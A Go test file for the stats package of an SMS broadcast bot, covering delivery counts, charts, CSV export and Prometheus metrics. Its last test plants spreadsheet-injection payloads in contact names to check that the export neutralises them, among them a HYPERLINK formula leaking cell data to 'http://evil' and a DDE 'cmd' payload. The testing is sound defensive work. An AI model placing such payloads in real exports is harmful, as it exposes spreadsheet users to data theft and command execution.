package stats_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"image/png"
	"math"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"

	dto "github.com/prometheus/client_model/go"
	"github.com/prometheus/common/expfmt"
	"github.com/prometheus/common/model"

	"smsbot/broadcast"
	"smsbot/stats"
	"smsbot/store"
)

var t0 = time.Date(2026, 12, 1, 18, 45, 0, 0, time.UTC)

// fixture is a finished broadcast with a known outbox: ten recipients,
// two senders.
//
//	A (+12065550101, 1 seg/s): texts of 1 segment at t0, +1s … +4s:
//	  3 delivered, 1 undelivered (30003), 1 sent (no receipt)
//	B (+12065550102, 2 seg/s): texts of 2 segments at t0, +0.5s, +1s:
//	  2 delivered, 1 sent; and 1 failed (21211) before sending
//	one skipped (opted out)
//
// Replies: two texts from recipients within 24 h (one STOP), one after.
func fixture(t *testing.T) (*store.Store, int64) {
	t.Helper()
	ctx := context.Background()
	st, err := store.Open(ctx, store.Config{Path: filepath.Join(t.TempDir(), "smsbot.db"), Now: func() time.Time { return t0 }})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	a, _, _ := st.AddSender(ctx, "+12065550101", 1, "test")
	b, _, _ := st.AddSender(ctx, "+12065550102", 2, "test")
	var contacts []int64
	for i := range 10 {
		res, err := st.AddMember(ctx, "crew", "+1425555000"+string(rune('0'+i)), "Person "+string(rune('A'+i)), "test")
		if err != nil {
			t.Fatal(err)
		}
		contacts = append(contacts, res.Contact.ID)
	}
	bc, err := st.CreateBroadcast(ctx, broadcast.Broadcast{Body: "Dinner", ListID: 1, RequestedBy: "alice", Segments: 1, Encoding: broadcast.GSM7})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.Transition(ctx, bc.ID, []broadcast.Status{broadcast.StatusPending}, broadcast.StatusSending, "bob", t0); err != nil {
		t.Fatal(err)
	}
	if _, err := st.Transition(ctx, bc.ID, []broadcast.Status{broadcast.StatusSending}, broadcast.StatusCompleted, "smsbot", t0.Add(5*time.Second)); err != nil {
		t.Fatal(err)
	}
	type row struct {
		sender          any
		status          string
		segs            int
		sent, delivered time.Duration // -1: none
		code, text      string
	}
	rows := []row{
		{a.ID, "delivered", 1, 0, 10 * time.Second, "", ""},
		{a.ID, "delivered", 1, time.Second, 12 * time.Second, "", ""},
		{a.ID, "delivered", 1, 2 * time.Second, 15 * time.Second, "", ""},
		{a.ID, "undelivered", 1, 3 * time.Second, -1, "30003", "unreachable: phone off or out of coverage, may be temporary"},
		{a.ID, "sent", 1, 4 * time.Second, -1, "", ""},
		{b.ID, "delivered", 2, 0, 5 * time.Second, "", ""},
		{b.ID, "delivered", 2, 500 * time.Millisecond, 6 * time.Second, "", ""},
		{b.ID, "sent", 2, time.Second, -1, "", ""},
		{b.ID, "failed", 2, -1, -1, "21211", "Invalid 'To' Phone Number"},
		{nil, "skipped", 1, -1, -1, "", "opted out"},
	}
	at := func(d time.Duration) any {
		if d < 0 {
			return nil
		}
		return t0.Add(d)
	}
	for i, r := range rows {
		_, err := st.DB().DB.ExecContext(ctx, `INSERT INTO messages (broadcast_id, contact_id, to_phone, sender_id, status,
			provider_sid, error_code, error_text, segments, next_attempt_at, sent_at, delivered_at, updated_at)
			VALUES (?, ?, (SELECT phone FROM contacts WHERE id = ?), ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
			bc.ID, contacts[i], contacts[i], r.sender, r.status, "SM"+string(rune('a'+i)), r.code, r.text, r.segs, t0, at(r.sent), at(r.delivered), t0)
		if err != nil {
			t.Fatal(err)
		}
	}
	for i, in := range []struct {
		contact int
		after   time.Duration
		body    string
	}{{0, time.Hour, "which room?"}, {1, 2 * time.Hour, "STOP"}, {2, 25 * time.Hour, "late reply"}} {
		kw := ""
		if in.body == "STOP" {
			kw = "STOP"
		}
		_, err := st.DB().DB.ExecContext(ctx, `INSERT INTO inbound_messages (sid, contact_id, from_phone, to_phone, body, keyword, received_at)
			VALUES (?, ?, '+1', '+12065550101', ?, ?, ?)`, "SMin"+string(rune('a'+i)), contacts[in.contact], in.body, kw, t0.Add(in.after))
		if err != nil {
			t.Fatal(err)
		}
	}
	return st, bc.ID
}

func TestReportMatchesHandFigures(t *testing.T) {
	st, id := fixture(t)
	r, err := stats.Compute(context.Background(), st, id, 0.01)
	if err != nil {
		t.Fatal(err)
	}
	c := r.Counts
	if c.Total != 10 || c.Delivered != 5 || c.Undelivered != 1 || c.Sent != 2 || c.Failed != 1 || c.Skipped != 1 || c.Done() != 8 {
		t.Errorf("counts = %+v", c)
	}
	if r.DeliveryRate != 5.0/8 {
		t.Errorf("delivery rate = %v, want 0.625", r.DeliveryRate)
	}
	if r.SegmentsSent != 11 || math.Abs(r.Cost-0.11) > 1e-9 {
		t.Errorf("segments %d, cost %v; want 11, 0.11", r.SegmentsSent, r.Cost)
	}
	if r.Replies != 2 || r.OptOuts != 1 {
		t.Errorf("replies %d, opt-outs %d; want 2, 1", r.Replies, r.OptOuts)
	}
	if r.Duration != 5*time.Second || r.Broadcast.RequestedBy != "alice" || r.Broadcast.ApprovedBy != "bob" {
		t.Errorf("duration %v, requested by %q, approved by %q", r.Duration, r.Broadcast.RequestedBy, r.Broadcast.ApprovedBy)
	}
	if len(r.Senders) != 2 {
		t.Fatalf("senders = %+v", r.Senders)
	}
	// A: 5 texts over 4 s, 4 of them before the last: 1 segment/s.
	// B: 3 texts of 2 segments over 1 s, 2 before the last: 4 segments/s.
	for i, want := range []struct {
		texts, segs int
		achieved    float64
	}{{5, 5, 1}, {3, 6, 4}} {
		s := r.Senders[i]
		if s.Activity.Texts != want.texts || s.Activity.Segments != want.segs || math.Abs(s.Achieved-want.achieved) > 1e-9 {
			t.Errorf("sender %s: %d texts, %d segments, %.3f/s; want %d, %d, %.3f", s.Sender.Address, s.Activity.Texts, s.Activity.Segments, s.Achieved, want.texts, want.segs, want.achieved)
		}
	}
	var got []string
	for _, f := range r.Failures {
		got = append(got, string(f.Status)+" "+f.Code+" "+f.Explanation.Summary)
	}
	want := "failed 21211 invalid phone number|skipped  |undelivered 30003 unreachable: phone off or out of coverage, may be temporary"
	if strings.Join(got, "|") != want {
		t.Errorf("failures:\n%s\nwant\n%s", strings.Join(got, "|"), want)
	}
}

func TestRecentTotals(t *testing.T) {
	st, _ := fixture(t)
	list, total, err := stats.Recent(context.Background(), st, 10)
	if err != nil || len(list) != 1 || total.Counts.Done() != 8 || total.Replies != 2 || total.OptOuts != 1 {
		t.Fatalf("recent = %+v, total %+v, %v", list, total, err)
	}
}

func TestChartHasOneSeriesPerSender(t *testing.T) {
	st, id := fixture(t)
	series, start, err := stats.ChartData(context.Background(), st, id)
	if err != nil {
		t.Fatal(err)
	}
	if len(series) != 2 || !start.Equal(t0) {
		t.Fatalf("%d series from %v", len(series), start)
	}
	// A: 5 sent and 3 delivered, each line in one piece starting at 0.
	if a := series[0]; len(a.Sent) != 1 || len(a.Sent[0]) != 6 || a.Sent[0][5].Y != 5 || a.Sent[0][5].X != 4 ||
		len(a.Delivered) != 1 || len(a.Delivered[0]) != 4 || a.Delivered[0][3].X != 15 {
		t.Fatalf("series A = %+v", a)
	}
	img, err := stats.Chart("Broadcast #1", series)
	if err != nil {
		t.Fatal(err)
	}
	decoded, err := png.Decode(bytes.NewReader(img))
	if err != nil {
		t.Fatalf("not a PNG: %v", err)
	}
	if b := decoded.Bounds(); b.Dx() != 768 || b.Dy() != 384 {
		t.Fatalf("chart is %dx%d, want 768x384", b.Dx(), b.Dy())
	}
}

func TestExportRoundTrips(t *testing.T) {
	st, id := fixture(t)
	var buf bytes.Buffer
	if err := stats.Export(context.Background(), st, id, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 11 || strings.Join(recs[0], ",") != strings.Join(stats.ExportHeader, ",") {
		t.Fatalf("%d lines, header %v", len(recs), recs[0])
	}
	first := strings.Join(recs[1], ",")
	if first != "+14255550000,Person A,+12065550101,delivered,,,2026-12-01T18:45:00Z,2026-12-01T18:45:10Z" {
		t.Errorf("first line: %s", first)
	}
	if got := recs[4]; got[3] != "undelivered" || got[4] != "30003" || got[7] != "" {
		t.Errorf("undelivered line: %v", got)
	}
	if got := recs[10]; got[2] != "" || got[3] != "skipped" || got[5] != "opted out" || got[6] != "" {
		t.Errorf("skipped line: %v", got)
	}
	if err := stats.Export(context.Background(), st, 99, &buf); broadcast.ErrorCode(err) != broadcast.ENOTFOUND {
		t.Errorf("export of an unknown broadcast: %v", err)
	}
}

func TestMetricsScrape(t *testing.T) {
	st, _ := fixture(t)
	m := stats.NewMetrics(st)
	// One send through an instrumented provider.
	p := m.Instrument(okProvider{})
	if _, err := p.Send(context.Background(), broadcast.Outgoing{To: "+1"}); err != nil {
		t.Fatal(err)
	}
	// The account's cap, cut once by a 20429 while 2 calls are in flight.
	gate := broadcast.NewGate(broadcast.GateConfig{Limit: 100})
	m.WatchGate(gate)
	held, _ := gate.Acquire(context.Background())
	defer held.Release(nil)
	refused, _ := gate.Acquire(context.Background())
	held2, _ := gate.Acquire(context.Background())
	defer held2.Release(nil)
	refused.Release(&broadcast.SendError{Class: broadcast.Retryable, Code: "20429", Throttled: true})
	srv := httptest.NewServer(m.Handler())
	defer srv.Close()
	resp, err := srv.Client().Get(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	parser := expfmt.NewTextParser(model.UTF8Validation)
	families, err := parser.TextToMetricFamilies(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	value := func(name string, labels map[string]string) float64 {
		t.Helper()
		f, ok := families[name]
		if !ok {
			t.Fatalf("no metric %s", name)
		}
		for _, metric := range f.Metric {
			if matches(metric, labels) {
				switch {
				case metric.Gauge != nil:
					return metric.Gauge.GetValue()
				case metric.Counter != nil:
					return metric.Counter.GetValue()
				case metric.Histogram != nil:
					return float64(metric.Histogram.GetSampleCount())
				}
			}
		}
		t.Fatalf("no %s with %v", name, labels)
		return 0
	}
	checks := []struct {
		name   string
		labels map[string]string
		want   float64
	}{
		{"smsbot_messages", map[string]string{"sender": "+12065550101", "status": "delivered", "error_code": ""}, 3},
		{"smsbot_messages", map[string]string{"sender": "+12065550101", "status": "undelivered", "error_code": "30003"}, 1},
		{"smsbot_messages", map[string]string{"sender": "+12065550102", "status": "failed", "error_code": "21211"}, 1},
		{"smsbot_queue_depth", nil, 0},
		{"smsbot_broadcasts", map[string]string{"status": "completed"}, 1},
		{"smsbot_incoming_texts_total", nil, 3},
		{"smsbot_provider_send_seconds", map[string]string{"outcome": "ok"}, 1},
		{"smsbot_provider_concurrency_limit", nil, 50},
		{"smsbot_provider_concurrency_max", nil, 100},
		{"smsbot_provider_calls_in_flight", nil, 2},
		{"smsbot_provider_calls_waiting", nil, 0},
		{"smsbot_provider_concurrency_cuts_total", nil, 1},
	}
	for _, c := range checks {
		if got := value(c.name, c.labels); got != c.want {
			t.Errorf("%s%v = %v, want %v", c.name, c.labels, got, c.want)
		}
	}
}

func matches(m *dto.Metric, labels map[string]string) bool {
	for k, v := range labels {
		found := false
		for _, l := range m.Label {
			if l.GetName() == k && l.GetValue() == v {
				found = true
			}
		}
		if !found {
			return false
		}
	}
	return true
}

type okProvider struct{}

func (okProvider) Send(context.Context, broadcast.Outgoing) (string, error) { return "SM1", nil }
func (okProvider) Lookup(context.Context, broadcast.Sender, string, time.Time) ([]broadcast.Sent, error) {
	return nil, nil
}

// TestExportNeutralisesFormulas: names and error texts that a spreadsheet
// would run as formulas are written with a leading apostrophe; the E.164
// numbers are written as they are.
func TestExportNeutralisesFormulas(t *testing.T) {
	st, id := fixture(t)
	ctx := context.Background()
	hostile := map[int]string{ // line of the export → the contact's name
		1: `=HYPERLINK("http://evil/?x="&A3,"Refund")`,
		2: "@SUM(A1:A9)",
		3: "+cmd|' /C calc'!A0",
		4: "-2+3",
		5: "\t=1",
		6: "\r=1",
	}
	for line, name := range hostile {
		if _, err := st.DB().DB.ExecContext(ctx, `UPDATE contacts SET name = ? WHERE phone = ?`, name, "+1425555000"+string(rune('0'+line-1))); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := st.DB().DB.ExecContext(ctx, `UPDATE messages SET error_text = '=1+1' WHERE error_code = '30003'`); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := stats.Export(ctx, st, id, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for line, name := range hostile {
		if got := recs[line][1]; got != "'"+name {
			t.Errorf("line %d: name %q exported as %q, want it after an apostrophe", line, name, got)
		}
	}
	if got := recs[4][5]; got != "'=1+1" {
		t.Errorf("error text exported as %q", got)
	}
	for i, rec := range recs[1:] {
		if rec[0] != "+1425555000"+string(rune('0'+i)) || rec[2] != "" && !strings.HasPrefix(rec[2], "+1206555010") {
			t.Errorf("line %d: numbers exported as %q and %q, want them as they are", i+1, rec[0], rec[2])
		}
		for j, cell := range rec {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && j != 0 && j != 2 {
				t.Errorf("line %d cell %d starts a formula: %q", i+1, j, cell)
			}
		}
	}
}
